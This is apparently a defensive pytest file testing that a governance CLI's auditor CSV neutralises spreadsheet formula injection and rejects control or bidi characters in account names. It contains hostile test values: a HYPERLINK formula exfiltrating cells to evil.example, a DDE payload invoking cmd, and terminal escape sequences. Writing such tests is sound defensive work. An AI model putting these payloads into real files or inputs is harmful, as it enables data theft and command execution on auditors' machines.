"""Red team, round 21b: the auditors' spreadsheet (第十八条 CSV) as a way to run a formula.

``govmedia report`` writes the assessment as CSV for the 网信办's 统一台账, which the
auditors open in a spreadsheet program; ``--repos`` puts every unit's rows into one file.
A cell that begins with ``=``, ``+``, ``-`` or ``@`` is a formula there: a unit name or an
account name from one unit's reviewed ``accounts.yml`` such as ``=HYPERLINK(...)`` sends the
neighbouring cells to another site, or runs a command (DDE), on the auditor's machine. A
real repository with the sample content, its signed ledger and the real CLI.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from pipeline.governance.report_format import spreadsheet_cell
from tests.conftest import Repo
from tests.security.ledger_support import enroll_publisher
from tests.test_governance_report import build_unit

FORMULA = '=HYPERLINK("https://evil.example/?d="&B2&C2,"牙克石政务服务")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def unit(make_repo) -> Repo:
    repo = make_repo("unit", sample=True)
    accounts = repo.path / "content" / "accounts.yml"
    text = accounts.read_text(encoding="utf-8")
    text = text.replace("unit: 牙克石市政务服务局", f"unit: {_yaml(DDE)}", 1)
    text = text.replace("    name: 牙克石政务服务\n", f"    name: {_yaml(FORMULA)}\n", 1)
    accounts.write_text(text, encoding="utf-8")
    repo.commit("Accounts")
    enroll_publisher(repo)
    repo.git("rm", "-r", "-q", "content/posts")
    build_unit(repo)
    return repo


def _yaml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML scalar


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_no_cell_of_the_auditors_csv_is_a_formula(unit: Repo, cli, tmp_path: Path) -> None:
    """Attack: the unit's name and an account's name written as formulas reach the CSV
    cells as they are. Defence: a cell a spreadsheet would read as a formula starts with a
    quote (the OWASP form), shown as text; the Markdown report keeps the name as written."""
    out = tmp_path / "out"
    result = cli("report", "--year", "2026", "--out", str(out), cwd=unit.path)
    assert result.code in (0, 1), result.err
    rows = _rows(out / "report-2026.csv")
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    wechat = next(r for r in rows if r[1] == "wechat")
    assert wechat[0] == "'" + DDE and wechat[3] == "'" + FORMULA
    assert any(r[1] == "weibo" and r[3] == "牙克石市政务服务局" for r in rows)  # unchanged
    assert "HYPERLINK" in (out / "report-2026.md").read_text(encoding="utf-8")


def test_the_aggregated_csv_of_several_units_is_defused_too(
    unit: Repo, make_repo, cli, tmp_path: Path
) -> None:
    """The city-wide CSV (``--repos``): one unit's formula reaches every auditor who opens
    the whole city's file; it is defused the same way, and the honest unit's rows are
    unchanged."""
    honest = make_repo("honest", sample=True)
    out = tmp_path / "city"
    result = cli(
        "report",
        "--year",
        "2026",
        "--repos",
        str(unit.path),
        str(honest.path),
        "--out",
        str(out),
        cwd=tmp_path,
    )
    assert result.code in (0, 1), result.err
    (written,) = out.glob("*.csv")
    rows = _rows(written)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert "'" + FORMULA in cells and "牙克石政务服务" in cells


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 0470", "'+86 0470"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1＋1", "'＝1＋1"),
        ("牙克石政务服务", "牙克石政务服务"),
        ("75.0%", "75.0%"),
        ("3", "3"),
        ("", ""),
    ],
)
def test_a_cell_is_text_to_a_spreadsheet(text: str, shown: str) -> None:
    assert spreadsheet_cell(text) == shown


@pytest.mark.parametrize("escape", ["\\e[2K\\e[1A", "\\u202e", "\\x9b2K", "\\t", "\\u2028"])
def test_a_name_written_with_yaml_escapes_is_refused(make_repo, cli, escape: str) -> None:
    """Attack: YAML's double-quoted escapes write any character, so an account's name
    ``"牙克石政务服务\\e[2K\\e[1A"`` put ESC sequences into the Markdown report, the CSV and
    the terminal lines of ``govmedia report`` (erasing its ⚠ line), and a bidi override
    made the name read backwards. Defence: the registry refuses a control character, line
    break or bidi control in any of its texts, naming the file, line and field; the message
    shows the name with those characters escaped."""
    repo = make_repo("unit", sample=True)
    accounts = repo.path / "content" / "accounts.yml"
    text = accounts.read_text(encoding="utf-8")
    text = text.replace("    name: 牙克石政务服务\n", f'    name: "牙克石{escape}政务服务"\n', 1)
    accounts.write_text(text, encoding="utf-8")
    repo.commit("Accounts")
    for argv in (("accounts", "check"), ("report", "--year", "2026", "--out", "out")):
        result = cli(*argv, cwd=repo.path)
        assert result.code == 2 and "content/accounts.yml:9:" in result.err, result.err
        assert "name（账号名称）含有控制字符" in result.err, result.err
        printed = result.out + result.err
        assert not [c for c in printed if c in "\x1b\x9b\u202e\t\u2028"], printed
    assert not (repo.path / "out").exists()


def test_the_sample_registry_is_still_read(sample_repo, cli) -> None:
    result = cli("accounts", "check", cwd=sample_repo.path)
    assert result.code in (0, 1) and "控制字符" not in result.err, result.err
